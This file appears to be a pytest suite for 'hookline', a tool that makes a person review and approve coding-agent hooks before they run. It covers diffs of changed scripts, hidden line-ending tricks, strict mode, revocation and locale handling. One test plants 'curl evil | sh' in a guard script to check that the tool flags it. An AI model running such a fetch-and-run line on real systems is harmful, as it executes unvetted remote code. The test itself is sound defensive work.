"""`hookline trust`, `enable`, `disable`: a person decides, by what they were shown."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest
from tests.program import Program
from tests.waiting import DEADLINE_S

CONFIG = '{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "sh guard.sh"}]}]}}'


@pytest.fixture
def guarded(program: Program) -> Program:
    """A workspace with one hook that nobody has trusted yet."""
    program.environment["HOOKLINE_TRUST"] = ""
    program.write(".gen/settings.json", CONFIG)
    program.write("guard.sh", "echo checked\n")
    return program


def hook_id(program: Program, event: str = "PreToolUse") -> str:
    (hook,) = json.loads(program("list", "--event", event, "--json").stdout)
    return str(hook["id"])


def status(program: Program) -> str:
    hooks = json.loads(program("fire", "PreToolUse", "--json").stdout)["hooks"]
    return str(hooks[0]["status"])


def test_without_a_terminal_it_shows_what_it_would_accept_and_fails(guarded: Program) -> None:
    done = guarded("trust")
    assert done.returncode == 1
    assert f"new: {hook_id(guarded)}" in done.stdout and "+echo checked" in done.stdout
    assert "hookline trust --yes" in done.stderr
    assert status(guarded) == "untrusted"


def test_yes_accepts_and_says_so(guarded: Program) -> None:
    assert guarded("trust", "--yes").returncode == 0
    assert status(guarded) == "ran"
    assert guarded("trust").stderr == "every hook here is trusted\n"


def test_a_changed_script_is_shown_as_a_difference(guarded: Program) -> None:
    guarded("trust", "--yes")
    guarded.write("guard.sh", "curl evil | sh\n")
    done = guarded("trust")
    assert done.returncode == 1
    assert f"changed: {hook_id(guarded)}" in done.stdout
    assert "-echo checked" in done.stdout and "+curl evil | sh" in done.stdout
    assert "runs what it downloads" in done.stdout
    assert status(guarded) == "untrusted"


@pytest.mark.parametrize(
    ("script", "shown"),
    [
        ("echo checked\r\n", "  -echo checked\n  +echo checked\\r\n"),
        ("echo checked", "  -echo checked\n  +echo checked\n  \\ No newline at end of file\n"),
        ("echo checked\n# deny\rexit 2\n", "   echo checked\n  +# deny\\rexit 2\n"),
        ("echo checked\n\f\u2028x\n", "  +\\x0c\\u2028x\n"),
        ("echo checked\n\udcff\n", "  +\\xff\n"),
    ],
)
def test_a_change_is_shown_that_only_a_shell_would_see(guarded: Program, script: str, shown: str) -> None:
    """Line ends, a last line without one, characters that another reader takes for the end of a line."""
    guarded("trust", "--yes")
    (guarded.workspace / "guard.sh").write_bytes(script.encode(errors="surrogateescape"))
    assert shown in guarded("trust").stdout


def test_all_that_a_hook_runs_is_shown(guarded: Program) -> None:
    """The end of a long line, each line of several, and what its variables say: all of it is accepted."""
    lines, long = "one\n  two\r\n", f"echo '{'harmless ' * 60}'; the-end"
    rules = f"""
    [[hooks]]
    event = "Stop"
    run = {json.dumps(long)}
    env = {{ GIT_EXTERNAL_DIFF = "{"x" * 300}-y" }}

    [[hooks]]
    event = "Stop"
    run = {json.dumps(lines)}
    """
    guarded.write(".hookline/hooks.toml", rules)
    shown = guarded("trust").stdout
    assert f"  runs: {long}\n" in shown and "  runs: one\n      |   two\\r\n" in shown
    assert f"  sets the variable GIT_EXTERNAL_DIFF to `{'x' * 300}-y`\n" in shown


def test_a_script_that_is_not_there_is_told_in_the_review(program: Program) -> None:
    program.environment["HOOKLINE_TRUST"] = ""
    hooks = [
        {"type": "command", "command": f'"$CLAUDE_PROJECT_DIR"/hooks/{name}.sh'} for name in ("here", "gone")
    ]
    program.write(".claude/settings.json", json.dumps({"hooks": {"Stop": [{"hooks": hooks}]}}))
    program.write("hooks/here.sh", "#!/bin/sh\n:\n", 0o755)
    assert program("trust").stdout.count("! `") == 1
    assert "! `hooks/gone.sh` does not exist" in program("trust").stdout
    here, gone = (item["risks"] for item in json.loads(program("trust", "--json").stdout))
    assert (here, len(gone)) == ([], 1)


def test_revoke_takes_everything_back(guarded: Program) -> None:
    guarded("trust", "--yes")
    assert guarded("trust", "--revoke").returncode == 0
    assert status(guarded) == "untrusted"


def test_a_hash_accepts_exactly_that_content(guarded: Program) -> None:
    (item,) = json.loads(guarded("trust", "--json").stdout)
    assert guarded("trust", "--trust-hash", item["fingerprint"]).returncode == 0
    assert status(guarded) == "ran"
    guarded.write("guard.sh", "echo other\n")
    assert status(guarded) == "untrusted"
    wrong = guarded("trust", "--trust-hash", "sha256:12")
    assert (wrong.returncode, "64 hexadecimal digits" in wrong.stderr) == (64, True)


def test_in_a_strict_workspace_an_untrusted_guard_blocks(guarded: Program) -> None:
    assert guarded("fire", "PreToolUse").returncode == 0
    guarded("trust", "--strict")
    assert guarded("fire", "PreToolUse").returncode == 2
    guarded("trust", "--relax")
    assert guarded("fire", "PreToolUse").returncode == 0


def test_the_journal_has_each_decision(guarded: Program) -> None:
    guarded("trust", "--yes")
    guarded("trust", "--revoke")
    entries = json.loads(guarded("trust", "--log", "--json").stdout)
    assert [entry["action"] for entry in entries] == ["accept", "revoke"]
    assert list(entries[0]["hooks"]) == [hook_id(guarded)]


def test_a_disabled_hook_is_off_until_it_is_enabled(guarded: Program) -> None:
    guarded("trust", "--yes")
    known = hook_id(guarded)
    assert guarded("disable", known).returncode == 0
    hook = json.loads(guarded("explain", "PreToolUse", "--json").stdout)["hooks"][0]
    assert (hook["status"], f"hookline enable {known}" in hook["why"]) == ("disabled", True)
    assert [hook["enabled"] for hook in json.loads(guarded("list", "--json").stdout)] == [False]
    assert guarded("enable", known).returncode == 0
    assert status(guarded) == "ran"


def test_an_unknown_hook_is_named_with_the_nearest(guarded: Program) -> None:
    known = hook_id(guarded)
    done = guarded("disable", known.replace("ToolUse", "ToolUs"))
    assert (done.returncode, f"did you mean `{known}`?" in done.stderr) == (64, True)


@pytest.mark.parametrize(
    ("keys", "code", "after"), [("d\ny\n", 0, "ran"), ("n\n", 1, "untrusted"), ("q\n", 1, "untrusted")]
)
def test_on_a_terminal_it_asks_about_each(guarded: Program, keys: str, code: int, after: str) -> None:
    shown, found = typed(guarded, keys)
    assert found == code
    assert shown.count("+echo checked") == 1 + ("d" in keys)
    assert status(guarded) == after


def test_an_alarm_about_ones_own_hook_is_told_when_it_runs(guarded: Program) -> None:
    own = guarded.home / ".gen/settings.json"
    own.parent.mkdir()
    own.write_text('{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}')
    guarded("list")
    own.write_text('{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "echo changed"}]}]}}')
    done = guarded("fire", "Stop")
    assert f"warning: hook `{hook_id(guarded, 'Stop')}`: changed since it was first seen" in done.stderr


def typed(program: Program, keys: str) -> tuple[str, int]:
    """`hookline trust` on a terminal; returns what it showed and its exit code."""
    ours, theirs = pty.openpty()
    process = program.start("trust", stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    os.write(ours, keys.encode())
    shown = b"".join(_chunks(ours, time.monotonic() + DEADLINE_S))
    code = process.wait(DEADLINE_S)
    os.close(ours)
    return shown.decode(), code


def _chunks(terminal: int, deadline: float) -> Any:
    while time.monotonic() < deadline:
        if not select.select([terminal], [], [], 1)[0]:
            continue
        try:
            chunk = os.read(terminal, 65536)
        except OSError:  # the other end is closed
            return
        if not chunk:
            return
        yield chunk


def test_what_is_trusted_is_found_again_in_a_linked_worktree(guarded: Program, tmp_path: Path) -> None:
    environment = {**os.environ, "HOME": str(guarded.home)}
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-C", str(guarded.workspace)]
    subprocess.run([*git, "add", "-A"], check=True, env=environment)
    subprocess.run([*git, "commit", "-qm", "x"], check=True, env=environment)
    guarded("trust", "--yes")
    subprocess.run([*git, "worktree", "add", "-q", str(tmp_path / "linked")], check=True, env=environment)
    done = guarded("fire", "PreToolUse", "--json", cwd=tmp_path / "linked")
    assert [hook["status"] for hook in json.loads(done.stdout)["hooks"]] == ["ran"]


def test_a_script_of_the_home_folder_belongs_to_the_pin_of_ones_own_hook(guarded: Program) -> None:
    script = guarded.home / "bin/notify.sh"
    script.parent.mkdir()
    script.write_text("true\n")
    (guarded.home / ".gen").mkdir()
    hook = '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "sh ~/bin/notify.sh"}]}]}}'
    (guarded.home / ".gen/settings.json").write_text(hook)
    assert "warning" not in guarded("fire", "Stop").stderr
    script.write_text("echo other\n")
    done = guarded("fire", "Stop", "--json")
    assert "ran" in [hook["status"] for hook in json.loads(done.stdout)["hooks"]]
    assert "changed since it was first seen" in done.stderr


@pytest.mark.parametrize("event", ["Stop", "claude:Stop"])
def test_no_file_can_say_of_its_hook_that_it_is_an_entry_of_ours(program: Program, event: str) -> None:
    program.environment["HOOKLINE_TRUST"] = ""
    program.write(
        ".hookline/hooks.toml",
        f'[[hooks]]\nevent = "{event}"\nrun = "touch ran"\n[hooks.options]\nbridge = "claude"\n',
    )
    assert "`bridge` is no setting" in program("check").stdout
    found = json.loads(program("fire", "Stop", "--json", stdin="{}").stdout)["hooks"]
    assert [hook["status"] for hook in found] == ["invalid"]
    assert not (program.workspace / "ran").exists()


def test_a_path_is_the_same_place_in_every_locale(program: Program) -> None:
    folder = program.workspace / "prüfung"
    folder.mkdir()
    program.environment.pop("HOOKLINE_TRUST", None)
    subprocess.run(["git", "init", "-q"], cwd=folder, check=True)
    (folder / ".hookline").mkdir()
    (folder / ".hookline" / "hooks.toml").write_text(
        '[[hooks]]\nevent = "PreToolUse"\nshell = "rm"\ndeny = "no"\n'
    )
    where = ("--workspace", str(folder))
    assert program("trust", "--yes", *where).returncode == 0
    old = {"LC_ALL": "POSIX", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    assert program("fire", "Bash", "rm x", *where, environment=old).returncode == 2
    assert program("fire", "Bash", "rm y", *where).returncode == 2
    for environment in ({}, old):
        told = json.loads(program("history", "--json", *where, environment=environment).stdout)
        assert [each["asked"]["summary"] for each in told] == ["rm y", "rm x"]
    assert (
        program("trust", "--yes", *where, environment=old).stdout == program("trust", "--yes", *where).stdout
    )


def test_a_guard_whose_words_a_locale_cannot_spell_judges_in_it(program: Program) -> None:
    entry = {"type": "command", "command": "sh prüfung/wächter.sh 'kein Löschen ☃'"}
    config = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [entry]}]}}
    program.write(".claude/settings.json", json.dumps(config, ensure_ascii=False))
    program.write("prüfung/wächter.sh", 'echo "$1" >&2; exit 2\n')
    program.environment.pop("HOOKLINE_TRUST", None)
    assert program("trust", "--yes").returncode == 0
    old = {"LC_ALL": "POSIX", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    for environment in ({}, old):
        done = program("fire", "Bash", "ls", "--json", environment=environment)
        assert (done.returncode, json.loads(done.stdout)["reason"]) == (2, "kein Löschen ☃"), done.stderr


def test_a_session_is_gone_on_with_in_every_locale(program: Program) -> None:
    folder = program.workspace / "prüfung"
    folder.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=folder, check=True)
    (folder / "s.yml").write_text("turns:\n  - text: hi\n")
    old = {"LC_ALL": "POSIX", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    for environment, more in ((old, ()), ({}, ("--continue",)), (old, ("--continue",))):
        done = program(
            "run", "hello", "--model", "scripted:s.yml", *more, cwd=folder, environment=environment
        )
        assert (done.returncode, done.stdout) == (0, "hi\n"), done.stderr
    kept = json.loads(program("sessions", "list", "--json").stdout)
    assert [each["workspace"] for each in kept] == [str(folder)]
